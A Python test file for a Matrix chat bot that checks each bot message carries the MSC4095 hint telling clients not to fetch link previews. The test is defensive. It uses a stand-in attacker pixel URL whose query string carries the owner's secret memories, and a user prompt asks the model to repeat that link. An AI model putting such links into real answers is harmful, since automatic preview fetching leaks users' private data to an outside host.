"""Every message the bot puts in a room tells clients not to fetch link previews (MSC4095)."""

from __future__ import annotations

from bot.adapters.matrix_render import NO_PREVIEWS
from tests.matrix.conftest import MatrixWorld

PIXEL = "https://attacker.test/pixel?d=owner-secret-memories"


async def test_a_link_in_the_answer_carries_the_no_preview_hint(world: MatrixWorld) -> None:
    alice = await world.human("alice")
    bot = await world.bot(allowed=[alice.client.user_id])
    room = await alice.create_room([bot.user_id], encrypted=False)
    await alice.wait_joined(room, bot.user_id)

    world.model.respond(f"Here it is: [the page]({PIXEL})")
    await alice.say(room, f"repite este enlace: {PIXEL}")
    answer = await alice.message_from(bot.user_id, room)

    assert PIXEL in answer.content["formatted_body"]
    assert answer.content[NO_PREVIEWS] == []
    own = [e for e in await alice.raw_timeline(room)
           if e["sender"] == bot.user_id and e["type"] == "m.room.message"]
    assert own and all(e["content"].get(NO_PREVIEWS) == [] for e in own)
